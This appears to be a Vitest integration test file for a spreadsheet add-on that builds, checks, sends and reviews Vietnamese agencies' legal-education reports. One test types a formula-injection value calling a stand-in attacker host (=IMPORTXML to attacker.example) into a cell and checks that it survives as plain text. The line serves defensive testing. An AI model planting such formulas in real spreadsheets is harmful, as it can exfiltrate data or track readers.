@@ -1,0 +1,360 @@
+// The bundle that is pushed, on the fake spreadsheet, against the real worker.
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import type { Answer } from "../../addon/contract.ts";
+import { TONES } from "../../addon/look.ts";
+import { formOf, goodCells } from "../shared/golden.ts";
+import { type Desk, type Office, openOffice } from "./office.ts";
+import { readSheet, type SheetReader } from "./sheet-reader.ts";
+
+const PERIOD = "kh-6134-2021";
+const TAB = "Nhiệm vụ – Năm 2021";
+const FINANCE = "bao-cao-so-tai-chinh";
+const REVIEWER = "tong-hop-1";
+
+let office: Office;
+beforeAll(async () => {
+  office = await openOffice();
+}, 60_000);
+afterAll(() => office.close());
+
+function value<T>(answer: Answer<T>): T {
+  if (!answer.ok) throw new Error(`${answer.problem.code}: ${answer.problem.detail}`);
+  return answer.value;
+}
+
+function problem<T>(answer: Answer<T>): string {
+  return answer.ok ? "none" : answer.problem.code;
+}
+
+/** Value and formula of a cell. */
+function held({ fake }: Desk, tab: string, row: number, column: number): unknown[] {
+  const content = fake.spreadsheet
+    .sheets()
+    .find((each) => each.name() === tab)
+    ?.content({ row, column });
+  return [content?.value, content?.formula];
+}
+
+/** Types a good answer into every row that is asked for. */
+function fillIn(sheet: SheetReader, agency: string): void {
+  for (const row of formOf(agency).tables.duties.rows) {
+    for (const [column, text] of Object.entries(goodCells(row))) {
+      sheet.type(row.key, column as "status", String(text));
+    }
+  }
+}
+
+async function withSheet(personId: string): Promise<{ desk: Desk; sheet: SheetReader }> {
+  const desk = await office.sitDown(personId);
+  value(desk.addon.buildSheet(PERIOD));
+  return { desk, sheet: readSheet(desk, TAB) };
+}
+
+test("opening a file builds the menu and touches nothing else", async () => {
+  const { fake, addon } = await office.sitDown(FINANCE);
+  addon.onOpen();
+  expect(fake.ui.menus).toEqual([
+    {
+      caption: "Báo cáo PBGDPL",
+      items: [
+        { caption: "Mở thanh bên", functionName: "openSidebar" },
+        null,
+        { caption: "Kiểm tra biểu mẫu", functionName: "checkFromMenu" },
+      ],
+    },
+  ]);
+  expect(fake.requests).toEqual([]);
+  addon.openSidebar();
+  expect(fake.ui.sidebar?.title).toBe("Báo cáo PBGDPL");
+  expect(fake.ui.sidebar?.html).toContain("<html");
+});
+
+describe("building", () => {
+  test("the sheet has exactly the agency's rows, by key, and every cell to be filled is text with its choices", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    const form = formOf("so-tai-chinh");
+    expect(sheet.keys()).toEqual(form.tables.duties.rows.map(({ key }) => key));
+    const tab = desk.fake.spreadsheet.sheets().find((each) => each.name() === TAB);
+    const at = (column: "status" | "evidence") => tab?.cell(sheet.rowOf("II.4.c"), sheet.columnOf(column));
+    expect(at("status")?.rule?.values).toEqual([
+      "Chưa thực hiện",
+      "Đang thực hiện",
+      "Đã thực hiện",
+      "Không phát sinh",
+    ]);
+    expect(at("evidence")?.style).toMatchObject({
+      numberFormat: "@",
+      fontFamily: "Times New Roman",
+      fontSize: 12,
+      wrap: "WRAP",
+    });
+    expect(tab?.look.frozen).toEqual({ rows: 4, columns: 0 });
+    expect(tab?.look.columns.get(sheet.columnOf("key"))?.hidden).toBe(true);
+    expect(tab?.extras().protections.every(({ warningOnly }) => warningOnly)).toBe(true);
+    expect(tab?.extras().protections.length).toBeGreaterThan(0);
+  });
+
+  test("what is typed stays as it was typed: no date, number or formula is made of it", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    const typed = {
+      result: "=1+1",
+      completed: "12/2020",
+      difficulty: "1.234",
+      proposal: "5/11/2026",
+    } as const;
+    for (const [column, text] of Object.entries(typed)) sheet.type("II.4.c", column as "result", text);
+    expect(held(desk, TAB, sheet.rowOf("II.4.c"), sheet.columnOf("result"))).toEqual(["=1+1", null]);
+    for (const [column, text] of Object.entries(typed)) {
+      expect(sheet.text("II.4.c", column as "result")).toBe(text);
+    }
+  });
+
+  test("rebuilding keeps what was typed and puts aside what belongs to no row", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    sheet.type("II.4.c", "result", "Đã rà soát");
+    const free = sheet.rowOf(sheet.keys().at(-1) ?? "") + 1;
+    desk.fake.type(TAB, free, sheet.columnOf("result"), "Nội dung lạc dòng");
+    value(desk.addon.buildSheet(PERIOD));
+    const rebuilt = readSheet(desk, TAB);
+    expect(rebuilt.text("II.4.c", "result")).toBe("Đã rà soát");
+    expect(rebuilt.keys()).toEqual(sheet.keys());
+    const removed = desk.fake.spreadsheet.sheets().find((each) => each.name() === "Đã gỡ");
+    const texts = [1, 2, 3, 4].flatMap((row) =>
+      [1, 2, 3, 4].map((column) => removed?.content({ row, column }).value),
+    );
+    expect(texts).toContain("Nội dung lạc dòng");
+    expect(texts).toContain("10/12/2021");
+  });
+
+  test("a renamed tab and moved rows are still found", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    sheet.type("II.4.c", "status", "Đang thực hiện");
+    const tab = desk.fake.spreadsheet.sheets().find((each) => each.name() === TAB);
+    tab?.rename("Bảng của tôi");
+    tab?.insertRows(sheet.rowOf("II.4.c"), 2);
+    const check = value(desk.addon.checkSheet());
+    expect(check.groups.find(({ row }) => row === "II.4.c")?.items.map(({ rule }) => rule)).toEqual([
+      "R-RESULT-MISSING",
+    ]);
+  });
+
+  test("a reporter gets no sheet for a period that does not exist", async () => {
+    const desk = await office.sitDown(FINANCE);
+    expect(problem(desk.addon.buildSheet("kh-6134-1999"))).toBe("period_unknown");
+    expect(desk.fake.spreadsheet.sheets().map((each) => each.name())).toEqual(["Trang tính1"]);
+  });
+});
+
+describe("checking", () => {
+  test("flags the cell, its row and the list; a mended cell loses its flag", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    fillIn(sheet, "so-tai-chinh");
+    sheet.type("II.4.c", "evidence", "");
+    const broken = value(desk.addon.checkSheet());
+    expect([broken.errors, broken.warnings]).toEqual([1, 0]);
+    expect(broken.groups).toEqual([
+      {
+        row: "II.4.c",
+        duty: "II.4.c",
+        title: expect.stringMatching(/^Rà soát, tham mưu/),
+        section: expect.stringMatching(/^II\.4\. Hoàn thiện thể chế/),
+        items: [
+          {
+            severity: "error",
+            rule: "R-EVIDENCE-MISSING",
+            place: { table: "duties", row: "II.4.c", column: "evidence" },
+            message: "Chưa có văn bản minh chứng.",
+            hint: expect.stringContaining("Kế hoạch số"),
+            column: "Văn bản minh chứng (mỗi văn bản một dòng)",
+          },
+        ],
+      },
+    ]);
+    expect(sheet.ground("II.4.c", "evidence")).toBe(TONES.bad.ground);
+    expect(sheet.ground("II.4.c", "result")).toBe("#ffffff");
+    expect(sheet.note("II.4.c", "evidence")).toContain("Chưa có văn bản minh chứng.");
+    expect(sheet.text("II.4.c", "check")).toBe("✗ Chưa có văn bản minh chứng.");
+
+    expect(value(desk.addon.jumpTo(broken.groups[0]?.items[0]?.place ?? {}))).toBe(null);
+    expect(desk.fake.spreadsheet.selected).toEqual({
+      sheet: TAB,
+      rect: { row: sheet.rowOf("II.4.c"), column: sheet.columnOf("evidence"), rows: 1, columns: 1 },
+    });
+
+    sheet.type("II.4.c", "evidence", "Kế hoạch số 12/KH-STC ngày 05/3/2021");
+    expect(value(desk.addon.checkSheet()).groups).toEqual([]);
+    expect(sheet.ground("II.4.c", "evidence")).toBe("#ffffff");
+    expect(sheet.note("II.4.c", "evidence")).toBe("");
+    expect(sheet.text("II.4.c", "check")).toBe("✓ Đủ thông tin");
+  });
+
+  test("works without network", async () => {
+    const { desk } = await withSheet(FINANCE);
+    value(desk.addon.home());
+    desk.intercept(() => {
+      throw new Error("DNS error");
+    });
+    expect(value(desk.addon.checkSheet()).errors).toBeGreaterThan(10);
+    const home = value(desk.addon.home());
+    expect([home.offline?.code, home.me.agency?.id, home.sheet?.head]).toEqual([
+      "offline",
+      "so-tai-chinh",
+      null,
+    ]);
+  });
+
+  test("makes the same number of service calls however many rows there are", async () => {
+    const count = async (person: string) => {
+      const { desk } = await withSheet(person);
+      desk.fake.calls.reset();
+      value(desk.addon.checkSheet());
+      return desk.fake.calls.total();
+    };
+    expect(await count(FINANCE)).toBe(await count("bao-cao-hoi-nong-dan"));
+  });
+
+  test("a lost key column is told, and nothing is written", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    desk.fake.spreadsheet
+      .sheets()
+      .find((each) => each.name() === TAB)
+      ?.deleteColumns(sheet.columnOf("key"), 1);
+    expect(problem(desk.addon.checkSheet())).toBe("table_lost");
+  });
+});
+
+describe("sending", () => {
+  test("with errors nothing leaves the sheet", async () => {
+    const { desk } = await withSheet(FINANCE);
+    const before = desk.fake.requests.length;
+    expect(problem(desk.addon.sendReport())).toBe("report_has_errors");
+    expect(desk.fake.requests.length).toBe(before);
+  });
+
+  test("a lost answer is asked for again under the same key, and nothing is sent twice; then review and pull", async () => {
+    const { desk, sheet } = await withSheet("bao-cao-hoi-nong-dan");
+    fillIn(sheet, "hoi-nong-dan-tinh");
+    sheet.type("II.9.a", "difficulty", '=IMPORTXML("https://attacker.example";"//a")');
+    expect(value(desk.addon.home()).sheet?.head?.latest).toBe(0);
+    desk.intercept((_, send) => {
+      send();
+      throw new Error("Timeout");
+    });
+    expect(problem(desk.addon.sendReport())).toBe("offline");
+    desk.intercept(null);
+    const sent = value(desk.addon.sendReport());
+    expect([sent.version, sent.late, sent.head.rev]).toEqual([1, false, 1]);
+    const puts = desk.fake.requests.filter(({ method }) => method.toLowerCase() === "put");
+    expect(new Set(puts.map(({ headers }) => headers["Idempotency-Key"])).size).toBe(1);
+    expect(value(desk.addon.home()).sheet?.head).toMatchObject({ state: "sent", latest: 1, rev: 1 });
+
+    const review = await office.sitDown(REVIEWER);
+    const agency = "hoi-nong-dan-tinh";
+    const line = value(review.addon.listReports(PERIOD)).reports.find((each) => each.agency.id === agency);
+    expect(line).toMatchObject({ expected: true, late: false, head: { state: "sent", latest: 1 } });
+    const opened = value(review.addon.openReport(PERIOD, agency));
+    expect([opened.tab, opened.version.version, opened.groups]).toEqual(["Xem – Hội Nông dân tỉnh", 1, []]);
+    expect(readSheet(review, opened.tab).text("II.9.a", "difficulty")).toBe(
+      '=IMPORTXML("https://attacker.example";"//a")',
+    );
+    const started = value(review.addon.startReview(PERIOD, agency, 1, opened.head.rev));
+    expect(problem(review.addon.approveReport(PERIOD, agency, 1, opened.head.rev))).toBe("rev_stale");
+    expect(problem(review.addon.returnReport(PERIOD, agency, 1, started.rev, "  "))).toBe("reason_required");
+    expect(problem(desk.addon.sendReport())).toBe("report_locked");
+    const approved = value(review.addon.approveReport(PERIOD, agency, 1, started.rev));
+    expect([approved.state, approved.counted]).toEqual(["approved", 1]);
+
+    const pulled = value(review.addon.pullProvince(PERIOD));
+    expect(pulled.tabs).toEqual([
+      "Tổng hợp – Năm 2021",
+      "Kết quả theo nhiệm vụ – Năm 2021",
+      "Ma trận – Năm 2021",
+      "Khó khăn – kiến nghị – Năm 2021",
+      "Chưa báo cáo – Năm 2021",
+    ]);
+    const rows = Array.from({ length: 200 }, (_, index) =>
+      [1, 2, 3, 4, 5].map((column) => held(review, pulled.tabs[3] ?? "", index + 1, column)),
+    );
+    expect(rows).toContainEqual([
+      ["Khó khăn, vướng mắc", null],
+      ["Hội Nông dân tỉnh", null],
+      ["II.9.a", null],
+      ['=IMPORTXML("https://attacker.example";"//a")', null],
+      ["Báo cáo lần 1, dòng II.9.a", null],
+    ]);
+
+    value(review.addon.pullProvince(PERIOD));
+    expect(review.fake.spreadsheet.sheets()).toHaveLength(7);
+  });
+
+  test("a returned report says why, takes the mended text and is sent as the next version", async () => {
+    const desk = await office.sitDown("bao-cao-ubnd-ba-tri");
+    const built = value(desk.addon.buildSheet(PERIOD));
+    expect(built.returned?.reason).toContain("II.3.a.1");
+    const sheet = readSheet(desk, TAB);
+    expect(sheet.text("II.3.a.1", "result")).toContain("minh họa");
+    const [other] = [await office.sitDown("bao-cao-ubnd-ba-tri")];
+    value(other.addon.buildSheet(PERIOD));
+    sheet.type("II.3.a.1", "result", "Đã bổ sung kết quả");
+    expect(value(desk.addon.sendReport()).version).toBe(2);
+
+    const late = readSheet(other, TAB);
+    late.type("II.3.a.1", "result", "Bản của đồng nghiệp");
+    expect(problem(other.addon.sendReport())).toBe("rev_stale");
+    expect(late.text("II.3.a.1", "result")).toBe("Bản của đồng nghiệp");
+    expect(problem(other.addon.sendReport())).toBe("rev_stale");
+    value(other.addon.buildSheet(PERIOD));
+    expect(readSheet(other, TAB).text("II.3.a.1", "result")).toBe("Bản của đồng nghiệp");
+    expect(value(other.addon.sendReport()).version).toBe(3);
+  });
+});
+
+describe("bad days", () => {
+  const FAULTS: [string, Parameters<Desk["intercept"]>[0], string][] = [
+    [
+      "no network",
+      () => {
+        throw new Error("no route");
+      },
+      "offline",
+    ],
+    ["too many requests", () => ({ status: 429, headers: {}, body: "slow down" }), "busy"],
+    ["a gateway's error page", () => ({ status: 502, headers: {}, body: "<html>Bad gateway" }), "busy"],
+    ["an answer that is no JSON", () => ({ status: 200, headers: {}, body: "<html>login" }), "unexpected"],
+    ["somebody else's refusal", () => ({ status: 418, headers: {}, body: '{"error":1}' }), "unexpected"],
+  ];
+  test.each(FAULTS)("%s is told in one sentence", async (_, handler, code) => {
+    const desk = await office.sitDown(FINANCE);
+    desk.intercept(handler);
+    expect(problem(desk.addon.buildSheet(PERIOD))).toBe(code);
+    expect(desk.fake.spreadsheet.sheets()).toHaveLength(1);
+  });
+
+  test("another run at work on the file is waited for, not doubled", async () => {
+    const { desk } = await withSheet(FINANCE);
+    desk.fake.lock.taken = true;
+    expect(problem(desk.addon.sendReport())).toBe("locked");
+  });
+
+  test("who is not registered is told so", async () => {
+    const desk = await office.sitDown(FINANCE);
+    desk.intercept(() => ({
+      status: 403,
+      headers: {},
+      body: JSON.stringify({ code: "account_unknown", title: "Chưa đăng ký", detail: "Liên hệ." }),
+    }));
+    expect(desk.addon.home()).toEqual({
+      ok: false,
+      problem: { code: "account_unknown", title: "Chưa đăng ký", detail: "Liên hệ." },
+    });
+  });
+
+  test("a reviewer has no sheet of an agency's to build, check or send", async () => {
+    const desk = await office.sitDown("theo-doi");
+    expect(problem(desk.addon.buildSheet(PERIOD))).toBe("other_account");
+    expect(problem(desk.addon.checkSheet())).toBe("no_sheet");
+    expect(problem(desk.addon.sendReport())).toBe("no_sheet");
+    expect(problem(desk.addon.listReports(PERIOD))).toBe("none");
+    expect(problem(desk.addon.startReview(PERIOD, "ubnd-ba-tri", 1, 3))).toBe("role_forbidden");
+  });
+});
